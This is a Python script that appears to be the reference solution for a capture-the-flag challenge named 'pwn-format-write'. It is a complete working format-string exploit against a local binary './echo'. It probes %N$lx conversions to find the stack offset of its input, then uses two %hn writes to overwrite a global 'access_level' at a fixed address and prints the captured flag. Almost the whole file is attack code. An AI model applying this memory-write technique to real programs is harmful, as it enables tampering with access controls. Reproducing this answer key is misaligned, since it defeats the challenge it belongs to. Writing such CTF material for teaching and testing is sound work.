"""Reference solution for pwn-format-write: `printf(line)` with the line on
the stack. Finds which printf argument index reaches the start of the line
(a probe of `%N$lx` conversions), then writes 0x31337 into the global
`access_level` (fixed address: the binary is not position independent) with
two `%hn` writes whose addresses sit at the end of the line."""
import re
import struct
import subprocess
import sys

from elfsym import address_of

TARGET = 0x31337


def run(payload: bytes) -> bytes:
    return subprocess.run(["./echo"], input=payload, capture_output=True, timeout=10).stdout


def line_offset() -> int:
    probe = b"AAAAAAAA" + b"".join(b"|%%%d$016lx" % n for n in range(1, 21)) + b"\n"
    fields = run(probe).split(b"|")
    for n, field in enumerate(fields[1:], start=1):
        if field[:16] == b"4141414141414141":
            return n
    raise SystemExit("the line was not found among the first 20 printf arguments")


def main() -> int:
    address = address_of("echo", "access_level")
    base = line_offset()
    low, high = TARGET & 0xFFFF, TARGET >> 16
    assert high < low
    # 32 bytes of format, then the two addresses (arguments base+4, base+5).
    fmt = b"%%%dc%%%d$hn%%%dc%%%d$hn" % (high, base + 4, low - high, base + 5)
    if len(fmt) > 32:
        raise SystemExit("format part too long")
    payload = fmt.ljust(32, b"X") + struct.pack("<QQ", address + 2, address) + b"\n"
    if b"\n" in payload[:-1]:
        raise SystemExit("an address contains a newline byte")
    found = re.search(rb"bulwark\{[^}\s]+\}", run(payload))
    if not found:
        print("the write did not grant maintenance access", file=sys.stderr)
        return 1
    print(found.group().decode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
